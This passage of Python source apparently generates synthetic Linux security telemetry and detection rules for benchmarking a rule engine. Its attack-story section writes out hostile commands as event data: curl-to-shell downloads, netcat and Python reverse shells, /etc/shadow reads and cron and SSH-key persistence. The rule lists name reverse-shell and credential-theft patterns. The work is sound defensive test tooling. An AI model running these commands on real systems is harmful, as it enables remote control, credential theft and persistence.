        if p is None:
            return self._daemon_file(r.choice(self.daemons))
        p.files -= 1
        self._check_done(p)
        self._tool_file(p)

    def _net_step(self) -> None:
        r = self.rng
        p = self._draw(self.net_busy, lambda q: q.nets > 0) if r.random() < 0.55 else None
        if p is None:
            return self._daemon_net(r.choice(self.net_daemons))
        p.nets -= 1
        self._check_done(p)
        self._tool_net(p)

    def _tool_file(self, p: _Proc) -> None:
        r = self.rng
        c = r.choice
        n = p.name
        home = self._home(p.user)
        if r.random() < 0.2:  # the dynamic loader at work
            return self._file(p, c(_LIBS))
        if n in ("cc1", "as", "gcc"):
            if r.random() < 0.5:
                return self._file(p, f"/usr/include/{c(('stdio', 'stdlib', 'string', 'unistd', 'errno', 'sys/types', 'sys/socket'))}.h")
            return self._file(p, f"/tmp/cc{r.getrandbits(24):06x}.{c(('s', 'o', 'c'))}", c(("creation", "deletion")))
        if n in ("ld", "collect2"):
            if r.random() < 0.3:
                return self._file(p, f"{p.cwd}/build/{c(('app', 'server', 'kestrel-agent', 'test-runner'))}", "creation")
            return self._file(p, f"/usr/lib/x86_64-linux-gnu/{c(('crt1.o', 'crti.o', 'libc.so', 'libm.so.6', 'libgcc_s.so.1'))}")
        if n in ("make", "ar"):
            return self._file(p, f"{p.cwd}/{c(('makefile', 'config.mk', 'main.o', 'util.o', 'libutil.a'))}", c(("access", "access", "creation")))
        if n in ("git", "git-remote-https"):
            obj = f"{r.getrandbits(8):02x}/{r.getrandbits(152):038x}"
            return self._file(p, c((f"{p.cwd}/.git/config", f"{p.cwd}/.git/index", f"{p.cwd}/.git/objects/{obj}", f"{p.cwd}/.git/head", f"{home}/.gitconfig")),
                              c(("access", "access", "creation", "change")))
        if n == "vim":
            f = self._home_file(p)
            d, _, base = f.rpartition("/")
            return self._file(p, c((f, f"{d}/.{base}.swp", f"{home}/.viminfo")), c(("access", "creation", "change", "deletion")))
        if n in ("python3", "perl"):
            return self._file(p, c((f"/usr/lib/python3.11/{c(('os', 'json', 'socket', 'subprocess', 're', 'typing', 'pathlib'))}.py",
                                    f"/usr/lib/python3/dist-packages/{c(_PACKAGES)}/__init__.py",
                                    f"{p.cwd}/__pycache__/{c(('app', 'models', 'views', 'utils'))}.cpython-311.pyc", self._home_file(p))),
                              c(("access", "access", "access", "creation")))
        if n in ("apt", "dpkg", "dpkg-deb", "http", "gpgv"):
            pkg = c(_PACKAGES)
            return self._file(p, c((f"/var/lib/dpkg/info/{pkg}.list", f"/var/cache/apt/archives/{pkg}_{r.randint(1, 9)}.{r.randint(0, 20)}_amd64.deb",
                                    f"/usr/lib/x86_64-linux-gnu/lib{pkg}.so.{r.randint(0, 5)}", f"/usr/share/doc/{pkg}/copyright", "/var/lib/dpkg/status",
                                    f"/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_{c(('main', 'contrib'))}_binary-amd64_packages")),
                              c(("access", "creation", "change", "deletion")))
        if n in ("tar", "gzip", "find", "logrotate", "cp", "mv", "rm", "systemd-tmpfiles", "chmod", "mkdir", "sed"):
            op = {"rm": "deletion", "systemd-tmpfiles": c(("deletion", "access")), "chmod": "change", "mkdir": "creation",
                  "sed": c(("access", "change"))}.get(n, c(("access", "access", "creation")))
            return self._file(p, c((self._home_file(p), c(_LOGS) + f".{r.randint(1, 9)}.gz", f"/var/backups/{c(_REPOS)}-{r.randint(1, 31):02d}.tar.gz",
                                    f"/tmp/{c(_PACKAGES)}-{r.randint(1, 99)}.json", f"/tmp/systemd-private-{r.getrandbits(32):08x}/tmp")), op)
        if n in ("node",):
            return self._file(p, f"/srv/app/node_modules/{c(_PACKAGES)}/{c(('index', 'lib/main', 'dist/bundle'))}.js")
        if n in ("java",):
            return self._file(p, f"/opt/app/lib/{c(_PACKAGES)}-{r.randint(1, 9)}.{r.randint(0, 9)}.jar")
        if n in ("docker", "runc", "containerd-shim"):
            return self._file(p, c(("/run/docker.sock", f"/var/lib/docker/overlay2/{r.getrandbits(64):016x}/merged", f"/run/containerd/io.containerd.runtime.v2.task/moby/{r.getrandbits(64):016x}/config.json")))
        if n == "sudo":
            return self._file(p, c(("/etc/sudoers", "/etc/shadow", "/etc/pam.d/sudo", "/var/log/auth.log", "/etc/passwd")))
        if n == "ssh":
            return self._file(p, c((f"{home}/.ssh/known_hosts", f"{home}/.ssh/id_ed25519", f"{home}/.ssh/config", "/etc/ssh/ssh_config")))
        if n in ("bash", "sh") and p.session:
            return self._file(p, c((f"{home}/.bash_history", f"{home}/.bashrc", f"{home}/.profile")), c(("access", "change")))
        return self._file(p, c((self._home_file(p), c(_ETC_FILES), c(_LOGS), f"/proc/{r.randint(1, 40000)}/status", "/proc/meminfo", "/proc/cpuinfo")))

    def _daemon_file(self, p: _Proc) -> None:
        r = self.rng
        c = r.choice
        n = p.name
        if n == "systemd-journald":
            return self._file(p, f"/var/log/journal/{p.host.id}/system.journal", "change")
        if n == "rsyslogd":
            return self._file(p, c(_LOGS[:3]), "change")
        if n == "nginx":
            if r.random() < 0.5:
                return self._file(p, c(("/var/log/nginx/access.log", "/var/log/nginx/error.log")), "change")
            return self._file(p, f"/var/www/html/{c(('index.html', 'app.js', 'style.css', 'logo.png', 'favicon.ico', 'api/status.json'))}")
        if n == "php-fpm":
            if r.random() < 0.3:
                return self._file(p, f"/var/lib/php/sessions/sess_{r.getrandbits(104):026x}", c(("creation", "change", "deletion")))
            return self._file(p, f"/var/www/html/{c(('index', 'login', 'api', 'wp-login', 'upload', 'admin/dashboard'))}.php")
        if n == "cron":
            return self._file(p, c(("/etc/crontab", "/var/spool/cron/crontabs/root", "/etc/cron.d/sysstat", "/etc/cron.d/php")))
        if n == "sshd":
            return self._file(p, c(("/etc/ssh/sshd_config", "/etc/passwd", "/etc/shadow", "/etc/group", "/var/run/sshd.pid", "/etc/pam.d/sshd")))
        if n in ("dockerd", "containerd"):
            return self._file(p, f"/var/lib/{n.rstrip('d') if n == 'dockerd' else n}/{c(('overlay2', 'image', 'io.containerd.metadata.v1.bolt'))}/{r.getrandbits(64):016x}",
                              c(("access", "creation", "change")))
        if n == "java":
            return self._file(p, f"/var/lib/jenkins/jobs/{c(_REPOS)}/builds/{r.randint(1, 900)}/log", c(("creation", "change")))
        if n == "node":
            return self._file(p, f"/srv/app/{c(('server.js', 'config.json', 'logs/app.log', 'public/index.html'))}", c(("access", "change")))
        if n == "chronyd":
            return self._file(p, "/var/lib/chrony/chrony.drift", "change")
        return self._file(p, c((f"/proc/{r.randint(1, 40000)}/stat", f"/sys/fs/cgroup/system.slice/{c(('cron', 'ssh', 'nginx', 'docker'))}.service/memory.current",
                                f"/run/systemd/units/invocation:{c(('cron', 'ssh', 'nginx'))}.service")))

    def _pub(self) -> tuple[str, int]:
        r = self.rng
        if r.random() < 0.04:
            return r.choice(_IPV6), 443
        return r.choice(self.public_ips), r.choice((443, 443, 443, 80))

    def _tool_net(self, p: _Proc) -> None:
        r = self.rng
        n = p.name
        if n == "ssh":
            return self._net(p, r.choice((*self.internal_ips.values(), r.choice(self.public_ips))), 22)
        if n == "python3" and r.random() < 0.5:
            return self._net(p, r.choice(("127.0.0.1", self.internal_ips["db-01"], self.internal_ips["cache-01"])), r.choice((5432, 6379, 8000)))
        if n in ("node", "java") and r.random() < 0.5:
            return self._net(p, r.choice(("127.0.0.1", self.internal_ips["db-02"])), r.choice((6379, 5432, 9092, 27017)))
        if r.random() < 0.08:
            return self._net(p, "127.0.0.53", 53, "udp")
        if r.random() < 0.1:
            return self._net(p, self.internal_ips[r.choice(_INTERNAL)], r.choice((8080, 9090, 3000, 8000)))
        ip, port = self._pub()
        return self._net(p, ip, port)

    def _daemon_net(self, p: _Proc) -> None:
        r = self.rng
        n = p.name
        if n == "nginx":
            if r.random() < 0.6:
                return self._net(p, "", r.choice((443, 443, 80)), inbound=r.choice(self.public_ips))
            return self._net(p, "127.0.0.1", 9000)
        if n == "php-fpm":
            return self._net(p, r.choice((self.internal_ips["db-01"], "127.0.0.1")), r.choice((3306, 6379)))
        if n == "sshd":
            return self._net(p, "", 22, inbound=r.choice((*self.internal_ips.values(), "192.168.1.23", "192.168.1.57")))
        if n == "systemd-resolved":
            return self._net(p, r.choice(("1.1.1.1", "8.8.8.8", "9.9.9.9", "2606:4700:4700::1111")), 53, "udp")
        if n == "chronyd":
            return self._net(p, r.choice(("162.159.200.1", "162.159.200.123", "216.239.35.0")), 123, "udp")
        if n in ("dockerd", "containerd"):
            ip, port = self._pub()
            return self._net(p, ip, port)
        if n in ("java", "node"):
            return self._net(p, r.choice(("127.0.0.1", self.internal_ips["db-02"], "172.17.0.2")), r.choice((5432, 6379, 9092, 8080)))
        return self._net(p, "127.0.0.53", 53, "udp")

    # -- attack stories --------------------------------------------------------
    def _session(self) -> _Proc:
        bashes = [p for p in self.spawners.get("bash", ()) if p.session]
        if bashes:
            return self.rng.choice(bashes)
        return self.rng.choice(self.hosts).daemons["sshd"]

    def _run(self, parent: _Proc, args: list[str], name: str | None = None, exe: str | None = None, user: str | None = None) -> _Proc:
        name = name or args[0]
        p = self._new_proc(parent.host, name, args, parent.cwd, user or parent.user, parent, executable=exe)
        self._start(p)
        return p

    def _attack(self) -> None:
        r = self.rng
        c = r.choice
        evil = c(_EVIL_NETS) + str(r.randint(2, 250))
        kind = r.randrange(9)
        base = self._session()
        if kind == 0:  # download piped to a shell
            sh = self._run(base, ["sh", "-c", f"curl -s http://{evil}/{c(('install', 'update', 'x', 'i'))}.sh | sh"])
            curl = self._run(sh, ["curl", "-s", f"http://{evil}/x.sh"])
            self._net(curl, evil, c((80, 443, 8080)))
            self._end(curl)
            sh2 = self._run(sh, ["sh"])
            for tool in ("id", "uname"):
                t = self._run(sh2, [tool, "-a"] if tool == "uname" else [tool])
                self._end(t)
            self._end(sh2)
            self._end(sh)
        elif kind == 1:  # netcat reverse shell
            nc = self._run(base, ["nc", "-e", "/bin/sh", evil, "4444"])
            self._net(nc, evil, 4444)
            sh = self._run(nc, ["sh"], exe="/usr/bin/sh")
            self._end(sh)
            self._end(nc, 1)
        elif kind == 2:  # drop to /tmp, chmod, run
            path = f"/tmp/.{c(('x', 'kx', 'ice', 'sshd', 'kworker'))}{r.randint(1, 99)}"
            curl = self._run(base, ["curl", "-s", "-o", path, f"http://{evil}/bin/{r.getrandbits(16):04x}"])
            self._net(curl, evil, 80)
            self._file(curl, path, "creation")
            self._end(curl)
            ch = self._run(base, ["chmod", "+x", path])
            self._file(ch, path, "change")
            self._end(ch)
            x = self._run(base, [path], name=path.rsplit("/", 1)[1], exe=path)
            self._net(x, evil, c((4444, 3333, 443)))
            self._file(x, "/etc/shadow")
        elif kind == 3:  # credential read
            t = self._run(base, c((["cat", "/etc/shadow"], ["python3", "-c", "print(open('/etc/shadow').read())"], ["cp", "/etc/shadow", "/tmp/.s"])))
            self._file(t, "/etc/shadow")
            self._end(t)
        elif kind == 4:  # python reverse shell
            py = self._run(base, ["python3", "-c", f"import socket,subprocess,os;s=socket.socket();s.connect(('{evil}',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"])
            self._net(py, evil, 4444)
            sh = self._run(py, ["sh", "-i"])
            w = self._run(sh, ["whoami"])
            self._end(w)
            self._end(sh)
            self._end(py)
        elif kind == 5:  # web shell
            host = c([h for h in self.hosts if "php-fpm" in h.daemons])
            php = host.daemons["php-fpm"]
            sh = self._run(php, ["sh", "-c", c(("id;uname -a;cat /etc/passwd", f"wget -q -o /tmp/.w http://{evil}/w.php", "whoami"))], user="www-data")
            for tool in (["id"], ["uname", "-a"], ["cat", "/etc/passwd"]):
                t = self._run(sh, tool)
                if tool[0] == "cat":
                    self._file(t, "/etc/passwd")
                self._end(t)
            nc = self._run(sh, ["nc", evil, "4444"])
            self._net(nc, evil, 4444)
            self._end(nc)
            self._end(sh)
        elif kind == 6:  # cron persistence
            sh = self._run(base, ["sh", "-c", f"echo '* * * * * curl -s http://{evil}/c | sh' > /etc/cron.d/{c(('update', 'sync', 'php'))}"])
            self._file(sh, f"/etc/cron.d/{c(('update', 'sync', 'php'))}", "creation")
            self._end(sh)
        elif kind == 7:  # ssh key persistence
            sh = self._run(base, ["bash", "-c", "echo ssh-ed25519 aaaac3nzac1lzdi1nte5 >> ~/.ssh/authorized_keys"])
            self._file(sh, f"{self._home(base.user)}/.ssh/authorized_keys", "change")
            self._end(sh)
        else:  # base64-encoded payload to a shell
            sh = self._run(base, ["sh", "-c", f"echo {r.getrandbits(160):040x} | base64 -d | sh"])
            b = self._run(sh, ["base64", "-d"])
            self._end(b)
            s2 = self._run(sh, ["sh"])
            self._net(s2, evil, 4444)
            self._end(s2)
            self._end(sh)

    # -- the loop --------------------------------------------------------------
    def run(self, n: int) -> list[dict]:
        r = self.rng
        steps: tuple[Callable[[], None], ...] = (self._process_step, self._file_step, self._net_step)
        while len(self.out) < n:
            x = r.random()
            if x < 0.0006:
                self._attack()
            elif x < 0.45:
                steps[0]()
            elif x < 0.80:
                steps[1]()
            else:
                steps[2]()
        del self.out[n:]
        return self.out


def generate_events(n: int, seed: int = 1) -> list[dict]:
    """``n`` ECS events (nested dicts, integer-nanosecond ``@timestamp``,
    unique integer ``event.id`` from 1), the same for the same seed."""
    if n <= 0:
        return []
    # Hundreds of thousands of long-lived dicts and no cycles: collector
    # passes over them would only cost time (a third of it, measured).
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        return _Generator(seed).run(n)
    finally:
        if was_enabled:
            gc.enable()


# ---------------------------------------------------------------------------
# rules
# ---------------------------------------------------------------------------
# Tools seen in the stream (benign or in the attack stories) and tools a
# Linux rule pack looks for that this fleet never runs: most rules of a real
# pack stay silent on a given host.
_SEEN_TOOLS = ("nc", "base64", "chmod", "curl", "wget", "python3", "perl", "sh", "bash", "id", "uname", "whoami",
               "cat", "cp", "ssh", "git", "tar", "find", "sudo", "docker", "node", "gcc", "make", "awk", "sed")
_ABSENT_TOOLS = ("nmap", "masscan", "hydra", "john", "hashcat", "xmrig", "minerd", "socat", "ncat", "netcat", "telnet",
                 "tftp", "busybox", "openssl", "xxd", "gdb", "strace", "ltrace", "insmod", "modprobe", "rmmod", "kmod",
                 "iptables", "ufw", "setenforce", "chattr", "useradd", "usermod", "chpasswd", "visudo", "shred", "wipe",
                 "nohup", "setsid", "screen", "tmux", "ssh-keygen", "scp", "rsync", "sftp", "kubectl", "crictl", "nsenter",
                 "unshare", "capsh", "setcap", "getcap", "tcpdump", "tshark", "zmap", "sqlmap", "msfconsole", "chisel",
                 "frpc", "ngrok", "pspy64", "linpeas.sh", "mimipenguin", "mkfifo", "mknod", "ruby", "php", "lua", "tclsh",
                 "expect", "aria2c", "ftp", "smbclient", "ldapsearch", "pkexec", "doas", "su", "passwd", "gpasswd",
                 "systemd-run", "bpftrace", "bpftool", "xterm", "dig", "nslookup", "whois", "proxychains", "tor", "stunnel")
_SHELLS = ("sh", "bash", "dash", "zsh", "ksh", "fish", "tcsh", "csh")
_SERVICE_PARENTS = ("php-fpm", "nginx", "apache2", "httpd", "java", "node", "tomcat", "uwsgi", "gunicorn", "lighttpd",
                    "postgres", "mysqld", "redis-server", "mongod", "dockerd", "containerd-shim", "runc", "jenkins", "caddy", "haproxy")
_BENIGN_PARENTS = ("bash", "sh", "sshd", "systemd", "cron", "sudo", "make", "python3", "git", "apt", "dpkg")
_CMD_TOKENS = ("-e /bin/sh", "/dev/tcp/", "base64 -d", "| sh", "| bash", "chmod +x", "chmod 777", "/etc/shadow",
               "authorized_keys", ".ssh/id_rsa", "ld_preload", "/dev/shm/", "--no-check-certificate", "import socket",
               "pty.spawn", "mkfifo", "0<&196", "exec 5<>", "history -c", "unset histfile", "rm -rf /var/log",
               "iptables -f", "ufw disable", "useradd -o", "xmrig", "stratum+tcp", ".onion", "ngrok", "pastebin.com",
               "transfer.sh", "/tmp/.", "id;uname", "cat /etc/passwd", "sudo -l", "find / -perm -4000", "getcap -r",
               "/proc/self/environ", "docker.sock", "--privileged", "nsenter -t 1", "mount /dev/", "dd if=/dev/",
               "openssl enc", "s_client -connect", "curl -s http", "wget -q -o /tmp", "crontab -r", "echo '* * * * *",
               "/etc/cron.d/", "~/.ssh/authorized_keys", "python -c", "perl -mio::socket", "ruby -rsocket", "php -r", "socat exec:",
               "lua -e", "busybox nc", "telnet ", "setuid(0)", "os.setuid", "/etc/ld.so.preload",
               "insmod ", "/lib/modules/", "kill -9 1", "systemctl disable", "--disable-ipv6", "chattr +i", "tar cf - /",
               "zip -r /tmp", "gpg --symmetric", "| nc ", "| base64", "/var/run/secrets/kubernetes.io", "169.254.169.254")
_BIN_DIRS = ("/tmp/", "/dev/shm/", "/var/tmp/", "/run/user/", "/var/www/", "/home/", "/boot/", "/srv/", "/opt/", "/mnt/", "/media/")
_SENSITIVE = ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/root/.ssh/authorized_keys", "/etc/ld.so.preload",
              "/etc/pam.d/common-auth", "/etc/security/opasswd", "/var/lib/sss/db/cache.db", "/etc/krb5.keytab",
              "/proc/kcore", "/boot/grub/grub.cfg", "/etc/ssh/ssh_host_ed25519_key", "/etc/master.passwd")
_SENSITIVE_READERS = ("login", "passwd", "unix_chkpwd", "systemd", "cron", "useradd", "chage", "su")
_EXTENSIONS = ("so", "ko", "sh", "py", "pl", "elf", "bin", "php", "jsp", "war", "service", "timer", "desktop", "pem",
               "key", "kdbx", "gpg", "enc", "locked", "crypt", "exe", "dll", "ps1", "vbs", "hta", "lnk", "iso", "img")
_PERSIST_DIRS = ("/etc/cron.d", "/etc/cron.daily", "/etc/cron.hourly", "/var/spool/cron/crontabs", "/etc/systemd/system",
                 "/lib/systemd/system", "/etc/init.d", "/etc/rc.local", "/etc/profile.d", "/etc/update-motd.d",
                 "/root/.config/autostart", "/etc/xdg/autostart", "/etc/sudoers.d", "/etc/modules-load.d", "/etc/ld.so.conf.d")
_LOG_TARGETS = ("/var/log/auth.log", "/var/log/secure", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog",
                "/var/log/syslog", "/var/log/messages", "/root/.bash_history", "/var/log/audit/audit.log")
_PORTS = (4444, 4445, 1337, 31337, 6666, 6667, 9001, 9050, 3333, 5555, 7777, 8888, 12345, 54321, 2222, 1080, 5900, 23)
_CIDRS = ("203.0.113.0/24", "198.51.100.0/24", "45.9.148.0/24", "185.220.101.0/24", "91.219.236.0/22", "5.188.86.0/24",
          "194.165.16.0/24", "141.98.10.0/24", "193.142.146.0/24", "45.155.205.0/24", "80.66.88.0/24", "103.75.201.0/24")
_PRIVATE = '"10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8"'
_NET_TOOLS = ("sh", "bash", "python3", "perl", "nc", "base64", "php", "ruby", "awk", "busybox", "socat", "telnet", "openssl")


def _q(values: "tuple[str, ...] | list[str]") -> str:
    return ", ".join(f'"{v}"' for v in values)


def _pick(r: random.Random, pool: tuple[str, ...], lo: int, hi: int) -> list[str]:
    return r.sample(pool, r.randint(lo, hi))


def _tool(r: random.Random) -> str:
    # One rule in five names a tool this fleet runs; the rest look for
    # tools it never runs, as most of a real rule pack does on a host.
    return r.choice(_SEEN_TOOLS) if r.random() < 0.2 else r.choice(_ABSENT_TOOLS)


def _single_templates() -> list[tuple[int, Callable[[random.Random], str]]]:
    """(weight, make-query) pairs: the shapes of real Linux detection rules."""

    def proc_cmd(r: random.Random) -> str:
        return f'process where event.type == "start" and process.name == "{_tool(r)}" and process.command_line : "*{r.choice(_CMD_TOKENS)}*"'

    def proc_in_parent(r: random.Random) -> str:
        kids = _pick(r, _SHELLS + _ABSENT_TOOLS[:30] + ("id", "uname", "whoami", "cat", "nc", "wget", "curl"), 2, 5)
        return f"process where event.type == \"start\" and process.name in ({_q(kids)}) and process.parent.name in ({_q(_pick(r, _SERVICE_PARENTS, 1, 4))})"

    def proc_exec_dir(r: random.Random) -> str:
        dirs = _pick(r, _BIN_DIRS, 1, 3)
        pats = ", ".join(f'"{d}*{r.choice(("", ".", "x", "kworker", "sshd", "bin/", "."))}*"'.replace("**", "*") for d in dirs)
        return f'process where event.type == "start" and process.executable : ({pats}) and not process.name in ({_q(_pick(r, _SHELLS[:3] + ("python3", "node", "java", "make", "gcc"), 1, 4))})'

    def proc_cmd_pair(r: random.Random) -> str:
        a, b = r.sample(_CMD_TOKENS, 2)
        return f'process where event.action == "exec" and process.command_line : ("*{a}*", "*{b}*") and process.parent.name : "{r.choice(_SHELLS + _SERVICE_PARENTS)}*"'

    def proc_starts_ends(r: random.Random) -> str:
        return (f'process where startsWith(process.executable, "{r.choice(_BIN_DIRS)}") and '
                f'endsWith(process.name, "{r.choice((".sh", ".py", ".elf", ".bin", "d", "x", ".so", "64"))}")')

    def proc_contains(r: random.Random) -> str:
        return (f'process where event.type == "start" and stringContains(process.command_line, "{r.choice(_CMD_TOKENS)}") and '
                f'process.name != "{r.choice(_SEEN_TOOLS)}"')

    def proc_wild2(r: random.Random) -> str:
        t = _tool(r)
        return f'process where event.type == "start" and process.command_line : "*{t}*{r.choice(_CMD_TOKENS)}*"'

    def proc_or(r: random.Random) -> str:
        a, b = _tool(r), _tool(r)
        return (f'process where event.type == "start" and (process.name == "{a}" or process.parent.name == "{b}") and '
                f'process.command_line : "*{r.choice(_CMD_TOKENS)}*"')

    def proc_user(r: random.Random) -> str:
        return (f'process where event.type == "start" and user.name == "{r.choice(("root", "www-data", "jenkins", "deploy", "nobody"))}" and '
                f'process.name in~ ({_q(_pick(r, _ABSENT_TOOLS, 1, 4))})')

    def proc_not_parent(r: random.Random) -> str:
        tool = r.choice(("nc", "base64", "whoami", "id", "uname")) if r.random() < 0.1 else r.choice(_ABSENT_TOOLS)
        return (f'process where event.type == "start" and process.name == "{tool}" and '
                f'not process.parent.name in ({_q(["bash", "sh"] + _pick(r, _BENIGN_PARENTS[2:], 1, 4))})')

    def proc_starts_ci(r: random.Random) -> str:
        tool = r.choice(("nc", "base64", "perl -e")) if r.random() < 0.1 else r.choice(_ABSENT_TOOLS)
        return f'process where event.type == "start" and startsWith~(process.command_line, "{tool} {r.choice(("-", "/", "http", "--"))}")'

    def file_ext(r: random.Random) -> str:
        return (f'file where event.type == "creation" and file.extension in ({_q(_pick(r, _EXTENSIONS, 1, 4))}) and '
                f'file.path : ({", ".join(chr(34) + d + "*" + chr(34) for d in _pick(r, _BIN_DIRS, 1, 3))})')

    def file_sensitive(r: random.Random) -> str:
        return (f'file where event.action == "open" and file.path == "{r.choice(_SENSITIVE)}" and '
                f'not process.name in ({_q(["sshd", "sudo"] + _pick(r, _SENSITIVE_READERS, 1, 4))})')

    def file_starts_ends(r: random.Random) -> str:
        return f'file where endsWith(file.name, ".{r.choice(_EXTENSIONS)}") and startsWith(file.path, "{r.choice(_BIN_DIRS)}")'

    def file_persist(r: random.Random) -> str:
        return (f'file where event.type in ("creation", "change") and file.path : "{r.choice(_PERSIST_DIRS)}/*" and '
                f'process.name != "{r.choice(("dpkg", "apt", "systemd", "puppet", "chef-client", "ansible", "rpm"))}"')

    def file_logs(r: random.Random) -> str:
        return f'file where event.type == "deletion" and file.path : ({_q(_pick(r, _LOG_TARGETS, 1, 3))})'

    def file_name_dir(r: random.Random) -> str:
        return f'file where file.name : "{r.choice((".", "..", "", "x"))}*{r.choice(_EXTENSIONS)}" and file.directory == "{r.choice(_BIN_DIRS).rstrip("/")}"'

    def file_contains(r: random.Random) -> str:
        return f'file where stringContains(file.path, "{r.choice(("authorized_keys", ".ssh/", "ld.so.preload", "/.", "shadow", "sudoers.d", ".service", "rc.local"))}") and process.name in ({_q(_pick(r, _NET_TOOLS[2:] + _ABSENT_TOOLS[:20], 2, 5))})'

    def net_port(r: random.Random) -> str:
        return f"network where destination.port == {r.choice(_PORTS)} and not cidrMatch(destination.ip, {_PRIVATE})"

    def net_tool_ports(r: random.Random) -> str:
        ports = ", ".join(str(p) for p in r.sample(_PORTS, r.randint(1, 3)))
        return f"network where process.name in ({_q(_pick(r, _NET_TOOLS + _ABSENT_TOOLS, 1, 4))}) and destination.port in ({ports})"

    def net_cidr(r: random.Random) -> str:
        cidrs = _q(r.sample(_CIDRS, r.randint(1, 3)))
        return f"network where cidrMatch(destination.ip, {cidrs}) and destination.port != {r.choice((80, 443, 53))}"

    def net_action_tool(r: random.Random) -> str:
        return (f'network where event.action == "connection_attempted" and process.name == "{r.choice(_NET_TOOLS + _ABSENT_TOOLS)}" and '
                f'not cidrMatch(destination.ip, {_PRIVATE})')

    def net_exec_path(r: random.Random) -> str:
        return f'network where process.executable : "{r.choice(_BIN_DIRS)}*" and network.transport == "{r.choice(("tcp", "tcp", "udp"))}"'

    return [(14, proc_cmd), (8, proc_in_parent), (5, proc_exec_dir), (7, proc_cmd_pair), (3, proc_starts_ends),
            (4, proc_contains), (5, proc_wild2), (4, proc_or), (3, proc_user), (6, proc_not_parent), (2, proc_starts_ci),
            (5, file_ext), (4, file_sensitive), (3, file_starts_ends), (4, file_persist), (2, file_logs), (2, file_name_dir),
            (2, file_contains), (4, net_port), (4, net_tool_ports), (3, net_cidr), (3, net_action_tool), (2, net_exec_path)]


# The head of the list: the classic rules, in the order a pack lists them,
# so single-1 is "curl piped to a shell" and the first ten cover the kinds.
_FIRST_SINGLE = (
    'process where event.type == "start" and process.name : ("sh", "bash", "dash") and process.command_line : "*curl*|*sh*"',
    'process where event.type == "start" and process.name == "nc" and process.command_line : ("* -e *", "* -c *")',
    'process where event.type == "start" and process.executable : ("/tmp/*", "/dev/shm/*", "/var/tmp/*")',
    'file where event.action == "open" and file.path == "/etc/shadow" and not process.name in ("sshd", "sudo", "login", "passwd", "unix_chkpwd")',
    f"network where destination.port == 4444 and not cidrMatch(destination.ip, {_PRIVATE})",
    'process where event.type == "start" and process.parent.name in ("php-fpm", "nginx", "apache2") and process.name in ("sh", "bash", "id", "uname", "whoami")',
    'file where event.type in ("creation", "change") and file.path : "/etc/cron.d/*" and process.name != "dpkg"',
    'file where event.type == "change" and endsWith(file.path, "/.ssh/authorized_keys")',
    'process where event.type == "start" and process.name == "python3" and stringContains(process.command_line, "import socket")',
    'process where event.type == "start" and process.name == "base64" and process.parent.name in ("sh", "bash")',
)


def single_event_rules(n: int, seed: int = 1) -> list[tuple[str, str]]:
    """``n`` distinct single-event rules ``(rule_id, query)``; ``n=1`` and
    ``n=100`` are prefixes of the same list, so the scenarios nest."""
    r = random.Random(f"single-rules-{seed}")
    templates = _single_templates()
    weights = [w for w, _ in templates]
    makers = [m for _, m in templates]
    queries: list[str] = list(_FIRST_SINGLE)
    seen = set(queries)
    while len(queries) < n:
        q = r.choices(makers, weights)[0](r)
        if q not in seen:
            seen.add(q)
            queries.append(q)
    return [(f"bench-single-{i + 1:04d}", q) for i, q in enumerate(queries[:n])]


def _span(r: random.Random) -> str:
    return r.choice(("5s", "10s", "30s", "1m", "2m", "5m"))


def _sequence_templates() -> list[Callable[[random.Random], str]]:
    """The sequence shapes of real rules: tool then connection, drop then
    run, three steps, until-bounded, parent then child."""

    def tool_then_net(r: random.Random) -> str:
        tool = r.choice(("curl", "wget", "python3", "nc", "perl", "git", "ssh", "node") + _ABSENT_TOOLS[:12])
        port = r.choice(_PORTS + (443, 80, 22, 53))
        return (f'sequence by process.entity_id with maxspan={_span(r)} '
                f'[process where event.type == "start" and process.name == "{tool}"] '
                f"[network where destination.port == {port}]")

    def drop_then_exec(r: random.Random) -> str:
        d = r.choice(("/tmp", "/dev/shm", "/var/tmp", "/home", "/tmp/.", "/run/user"))
        return (f'sequence by host.id with maxspan={r.choice(("30s", "1m", "2m", "5m"))} '
                f'[file where event.type == "creation" and file.path : "{d}*"] by file.path '
                f'[process where event.type == "start"] by process.executable')

    def three_steps(r: random.Random) -> str:
        tools = _q(_pick(r, ("python3", "perl", "curl", "wget", "sh", "bash", "nc", "cat", "cp") + _ABSENT_TOOLS[:10], 1, 3))
        return (f'sequence by process.entity_id with maxspan={_span(r)} '
                f'[process where event.type == "start" and process.name in ({tools})] '
                f'[file where file.path : ({_q(_pick(r, _SENSITIVE + ("/tmp/*", "/etc/cron.d/*"), 1, 2))})] '
                f"[network where destination.port in ({', '.join(str(p) for p in r.sample(_PORTS + (80, 443), 2))})]")

    def until_end(r: random.Random) -> str:
        return (f'sequence by process.entity_id with maxspan={_span(r)} '
                f'[process where event.type == "start" and process.name == "{r.choice(("cat", "cp", "python3", "curl", "tar", "vim", "grep", "less") + _ABSENT_TOOLS[:8])}"] '
                f'[file where file.path : "{r.choice(_SENSITIVE + ("/etc/*", "/var/log/*", "/home/*/.ssh/*", "/tmp/*"))}"] '
                f'until [process where event.type == "end"]')

    def parent_child(r: random.Random) -> str:
        parents = _q(_pick(r, ("python3", "php-fpm", "nginx", "java", "node", "sudo", "nc", "perl", "apache2", "tomcat"), 1, 3))
        child = r.choice(("id", "whoami", "uname", "curl", "wget", "nc", "base64", "sh", "cat", "gcc", "tar") + _ABSENT_TOOLS[:10])
        return (f'sequence with maxspan={_span(r)} '
                f'[process where event.type == "start" and process.name in ({parents})] by process.entity_id '
                f'[process where event.type == "start" and process.name == "{child}"] by process.parent.entity_id')

    def child_net(r: random.Random) -> str:
        parents = _q(_pick(r, ("php-fpm", "python3", "nc", "java", "node", "perl", "nginx"), 1, 3))
        return (f'sequence with maxspan={_span(r)} '
                f'[process where event.type == "start" and process.name in ({parents})] by process.entity_id '
                f'[process where event.type == "start"] by process.parent.entity_id '
                f"[network where destination.port in ({', '.join(str(p) for p in r.sample(_PORTS + (443,), 2))})] by process.parent.entity_id")

    return [tool_then_net, drop_then_exec, three_steps, until_end, parent_child, child_net]


_FIRST_SEQUENCE = (
    'sequence by process.entity_id with maxspan=30s [process where event.type == "start" and process.name in ("curl", "wget")] [network where destination.port == 8080]',
